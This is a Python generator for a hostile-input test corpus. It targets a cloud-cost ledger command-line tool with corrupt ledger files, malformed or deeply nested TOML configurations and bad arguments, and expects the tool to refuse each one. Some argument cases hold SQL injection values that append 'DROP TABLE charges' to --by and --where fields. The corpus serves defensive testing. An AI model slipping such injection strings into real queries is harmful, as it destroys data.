        "empty_file": ("{d}/l.duckdb", (("l.duckdb", b""),)),
        "folder": ("{d}/dir.duckdb", (("dir.duckdb/keep", b""),)),
        "csv": ("{d}/l.csv", (("l.csv", b"a,b\n1,2\n"),)),
        "random_bytes": ("{d}/l.duckdb", (("l.duckdb", bytes((i * 7919) % 256 for i in range(8192))),)),
        "sqlite": ("{d}/l.duckdb", (("l.duckdb", lab_bytes),)),
        "block_word": ("{d}/l.duckdb", (("l.duckdb", b"block " * 1000),)),
    }
    out = []
    for command in ("summary", "ingests", "quarantine", "charges", "coverage", "statement"):
        for name, (where, files_) in kinds.items():
            out.append(
                Case(
                    f"ledger-{command}-{name}",
                    "ledger",
                    ((command, "--ledger", where),),
                    files_,
                    "refused",
                    (Path(where).name,),
                    base="none",
                )
            )
    out.append(
        Case(
            "ledger-truncated",
            "ledger",
            (("summary", "--ledger", "{d}/half.duckdb"),),
            (),
            "refused",
            ("half.duckdb",),
            base="none",
            extra={"truncate": True},
        )
    )
    return out


def _toml(
    kind: str, texts: dict[str, str], steps, name: str, base: str = "lab", slow: bool = False
) -> list[Case]:
    return [
        Case(f"{kind}-{key}", kind, steps, ((name, text.encode()),), "refused", (name,), base=base, slow=slow)
        for key, text in texts.items()
    ]


def _contracts_scenarios_budgets() -> list[Case]:
    contracts = {
        "not_toml": "[[commitments]\n",
        "amount_text": '[[commitments]]\nid = "c"\nprovider = "P"\ntotal = "lots"\ncurrency = "USD"\n'
        "start = 2024-01-01\nmonths = 12\n",
        "months_negative": '[[commitments]]\nid = "c"\nprovider = "P"\ntotal = "1"\ncurrency = "USD"\n'
        "start = 2024-01-01\nmonths = -1\n",
        "months_huge": '[[commitments]]\nid = "c"\nprovider = "P"\ntotal = "1"\ncurrency = "USD"\n'
        "start = 2024-01-01\nmonths = 100000000\n",
        "rate_nan": '[[revenue_share]]\npartner = "M"\nrate = nan\nchannels = ["x"]\n',
        "unknown_key": '[[credits]]\nid = "g"\nbogus = 1\n',
        "deep": "x = " + "[" * 5000 + "]" * 5000 + "\n",
        "terms_text": "[payment_terms]\ndefault = 'soon'\n",
    }
    far = Case(
        "contracts-year-9999",
        "contracts",
        (("commitments", "--ledger", "{ledger}", "--contracts", "{d}/c.toml"),),
        (
            (
                "c.toml",
                (
                    b'[[credits]]\nid = "g"\nprovider = "P"\namount = "1"\ncurrency = "USD"\n'
                    b"start = 9999-12-01\nexpires = 9999-12-31\n"
                ),
            ),
        ),
        says=("credits[0].start", "a year from 1900 to 9998"),
        base="lab",
    )
    out = [far] + _toml(
        "contracts",
        contracts,
        (("commitments", "--ledger", "{ledger}", "--contracts", "{d}/c.toml"),),
        "c.toml",
    )
    scenarios = {
        "growth_text": '[traffic]\ngrowth = "fast"\n',
        "growth_nan": "[traffic]\ngrowth = nan\n",
        "growth_inf": "[traffic]\ngrowth = inf\n",
        "months_zero": "[scenario]\nmonths = 0\n",
        "months_huge": "[scenario]\nmonths = 100000\n",
        "draws_huge": "[scenario]\ndraws = 1000000000\n",
        "draws_negative": "[scenario]\ndraws = -5\n",
        "unknown_key": "[scenario]\nbogus = 1\n",
        "price_month_13": '[[prices]]\nfrom = "2025-13"\nchange = "-0.25"\n',
        "range_inverted": "[traffic]\ngrowth = { low = 0.5, high = 0.1 }\n",
        "sd_negative": "[traffic]\ngrowth = { mean = 0.1, sd = -1 }\n",
        "deep": "x = " + "[" * 5000 + "]" * 5000 + "\n",
    }
    out += _toml(
        "scenario", scenarios, (("scenario", "run", "--ledger", "{ledger}", "{d}/s.toml"),), "s.toml"
    )
    budgets = {
        "amount_text": '[[budgets]]\nname = "b"\nperiod = "2024"\namount = "lots"\nseries = "inference"\n',
        "period_bad": '[[budgets]]\nname = "b"\nperiod = "2024-13"\namount = "1"\nseries = "inference"\n',
        "series_bad": '[[budgets]]\nname = "b"\nperiod = "2024"\namount = "1"\nseries = "coffee"\n',
        "unknown_key": '[[budgets]]\nname = "b"\nbogus = 1\n',
        "basis_bad": '[[budgets]]\nname = "b"\nperiod = "2024"\namount = "1"\nseries = "compute"\n'
        'basis = "x"\n',
        "not_toml": "[[budgets\n",
        "amount_nan": '[[budgets]]\nname = "b"\nperiod = "2024"\namount = nan\nseries = "inference"\n',
    }
    out += _toml("budgets", budgets, (("budgets", "--ledger", "{ledger}", "{d}/b.toml"),), "b.toml")
    return out


def _arguments() -> list[Case]:
    lab = "{ledger}"
    argv = {
        "quarantine-limit-negative": ("quarantine", "--ledger", lab, "--limit", "-1"),
        "quarantine-limit-text": ("quarantine", "--ledger", lab, "--limit", "many"),
        "quarantine-ingest-missing": ("quarantine", "--ledger", lab, "--ingest", "99999"),
        "summary-by-markup": ("summary", "--ledger", lab, "--by", "[/]"),
        "summary-by-unknown": ("summary", "--ledger", lab, "--by", "colour"),
        "summary-by-sql": ("summary", "--ledger", lab, "--by", "provider; DROP TABLE charges"),
        "summary-format-xml": ("summary", "--ledger", lab, "--format", "xml"),
        "summary-rules-version-missing": (
            "summary",
            "--ledger",
            lab,
            "--by",
            "workload",
            "--rules-version",
            "nope",
        ),
        "charges-where-no-equals": ("charges", "--ledger", lab, "--where", "provider"),
        "charges-where-unknown": ("charges", "--ledger", lab, "--where", "colour=red"),
        "charges-where-sql": ("charges", "--ledger", lab, "--where", "'; DROP TABLE charges; --=1"),
        "charges-limit-zero": ("charges", "--ledger", lab, "--limit", "0"),
        "charges-limit-huge": ("charges", "--ledger", lab, "--limit", "1000000000"),
        "explain-missing": ("explain", "--ledger", lab, "99999999999"),
        "explain-text": ("explain", "--ledger", lab, "abc"),
        "explain-markup": ("explain", "--ledger", lab, "[/]"),
        "coverage-dimension-unknown": ("coverage", "--ledger", lab, "--dimension", "colour"),
        "statement-period-bad": (
            "statement",
            "--ledger",
            lab,
            "--period",
            "9999-99",
            "--contracts",
            "{contracts}",
        ),
        "statement-from-month-13": (
            "statement",
            "--ledger",
            lab,
            "--from",
            "2025-13",
            "--contracts",
            "{contracts}",
        ),
        "statement-basis-bad": (
            "statement",
            "--ledger",
            lab,
            "--basis",
            "cash2",
            "--contracts",
            "{contracts}",
        ),
        "statement-contracts-missing": ("statement", "--ledger", lab, "--contracts", "{d}/none.toml"),
        "unit-costs-by-bad": ("unit-costs", "--ledger", lab, "--by", "colour"),
        "unit-costs-weight-text": ("unit-costs", "--ledger", lab, "--output-weight", "heavy"),
        "unit-costs-weight-nan": ("unit-costs", "--ledger", lab, "--output-weight", "nan"),
        "unit-costs-weight-negative": ("unit-costs", "--ledger", lab, "--output-weight", "-1"),
        "unit-costs-map-bad": ("unit-costs", "--ledger", lab, "--map", "=x"),
        "margin-basis-bad": ("margin", "--ledger", lab, "--basis", "x"),
        "margin-cost-bad": ("margin", "--ledger", lab, "--cost", "x"),
        "forecast-series-bad": ("forecast", "--ledger", lab, "coffee"),
        "forecast-horizon-zero": ("forecast", "--ledger", lab, "compute", "--horizon", "0"),
        "forecast-horizon-negative": ("forecast", "--ledger", lab, "compute", "--horizon", "-5"),
        "forecast-horizon-huge": ("forecast", "--ledger", lab, "compute", "--horizon", "100000"),
        "forecast-above-text": ("forecast", "--ledger", lab, "compute", "--above", "lots", "--by", "2025"),
        "forecast-above-huge": ("forecast", "--ledger", lab, "compute", "--above", "1e999", "--by", "2025"),
        "forecast-by-bad-date": ("forecast", "--ledger", lab, "compute", "--above", "1M", "--by", "9999-99"),
        "forecast-grain-hour": ("forecast", "--ledger", lab, "compute", "--grain", "hour"),
        "forecast-models-bad": ("forecast", "--ledger", lab, "compute", "--models", "Oracle9"),
        "forecast-draws-zero": (
            "forecast",
            "--ledger",
            lab,
            "compute",
            "--above",
            "1M",
            "--by",
            "2025",
            "--draws",
            "0",
        ),
        "forecast-draws-huge": (
            "forecast",
            "--ledger",
            lab,
            "compute",
            "--above",
            "1M",
            "--by",
            "2025",
            "--draws",
            "10000000000",
        ),
        "anomalies-level-bad": ("anomalies", "--ledger", lab, "--level", "42"),
        "anomalies-grain-bad": ("anomalies", "--ledger", lab, "--grain", "year"),
        "anomalies-by-bad": ("anomalies", "--ledger", lab, "--by", "colour"),
        "report-out-missing-folder": (
            "report",
            "--ledger",
            lab,
            "--out",
            "{d}/no/such/r.html",
            "--contracts",
            "{contracts}",
        ),
        "report-out-folder": ("report", "--ledger", lab, "--out", "{d}", "--contracts", "{contracts}"),
        "report-from-bad": ("report", "--ledger", lab, "--from", "2025-13", "--contracts", "{contracts}"),
        "report-horizon-negative": (
            "report",
            "--ledger",
            lab,
            "--horizon",
            "-1",
            "--contracts",
            "{contracts}",
        ),
        "report-basis-bad": ("report", "--ledger", lab, "--basis", "cash", "--contracts", "{contracts}"),
        "scenario-missing": ("scenario", "run", "--ledger", lab, "{d}/none.toml"),
        "budgets-missing": ("budgets", "--ledger", lab, "{d}/none.toml"),
        "capacity-invert-period-bad": ("capacity", "invert", "1B", "--period", "whenever"),
        "capacity-invert-spend-bad": ("capacity", "invert", "lots", "--period", "2025"),
        "capacity-invert-price-bad": ("capacity", "invert", "1B", "--period", "2025", "--price", "abc"),
        "capacity-invert-utilization-inverted": (
            "capacity",
            "invert",
            "1B",
            "--period",
            "2025",
            "--utilization",
            "0.9..0.1",
        ),
        "capacity-invert-mix-bad": ("capacity", "invert", "1B", "--period", "2025", "--mix", "A=x"),
        "capacity-invert-gpu-unknown": ("capacity", "invert", "1B", "--period", "2025", "--gpu", "Abacus"),
        "capacity-fleet-missing": ("capacity", "fleet", "{d}/none.yaml"),
        "ingest-no-paths": ("ingest", "--ledger", lab),
        "ingest-mapping-missing": ("ingest", "--ledger", lab, "--mapping", "{d}/none.toml", "{d}/none.csv"),
        "ingest-format-bad": ("ingest", "--ledger", lab, "--format", "yaml", "{d}/none.csv"),
        "convert-out-is-file": ("convert", "--out", "{contracts}", "{d}/none.csv"),
        "validate-missing": ("validate", "{d}/none.csv"),
        "examples-format-bad": ("examples", "--format", "xml"),
        "synth-months-zero": ("synth", "--out", "{d}/lab", "--months", "0"),
        "synth-start-bad": ("synth", "--out", "{d}/lab", "--start", "2024-13"),
        "synth-scale-bad": ("synth", "--out", "{d}/lab", "--scale", "huge"),
        "synth-config-missing": ("synth", "--out", "{d}/lab", "--config", "{d}/none.toml"),
        "unknown-command": ("frobnicate",),
        "backend-bad": ("--backend", "oracle", "summary", "--ledger", lab),
    }
    heavy = ("forecast", "report", "anomalies", "scenario", "budgets")
    return [
        Case(f"args-{name}", "args", (steps,), (), "refused", base="lab", slow=steps[0] in heavy)
        for name, steps in argv.items()
    ]


def cases() -> list[Case]:
    """Every case of the corpus, ids unique."""
    out = [
        *_bills(),
        *_mapped(),
        *_mappings(),
        *_usage_cases(),
        *_documents(),
        *_rules(),
        *_figures(),
        *_demand(),
        *_ledgers(),
        *_contracts_scenarios_budgets(),
        *_arguments(),
    ]
    from tests.hostile.newer import newer  # issue 29's cases, which build on this module's Case

    out += newer()
    ids = [c.id for c in out]
    assert len(ids) == len(set(ids)), sorted({i for i in ids if ids.count(i) > 1})
    return out


def write(case: Case, folder: Path) -> None:
    """The case's files into `folder`."""
    for name, data in case.files:
        path = folder / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(data)


def main(out: str) -> None:
    """Write the corpus into OUT: a folder per case and cases.json."""
    root = Path(out)
    manifest = []
    for case in cases():
        write(case, root / case.id)
        entry = asdict(case)
        entry["files"] = [os.fsencode(name).decode("utf-8", "backslashreplace") for name, _ in case.files]
        entry["value"] = str(Decimal(case.value)) if case.value is not None else None
        manifest.append(entry)
    (root / "cases.json").write_text(json.dumps(manifest, indent=1, default=str))
    print(f"{len(manifest)} cases written to {root}")


if __name__ == "__main__":
    main(sys.argv[1])
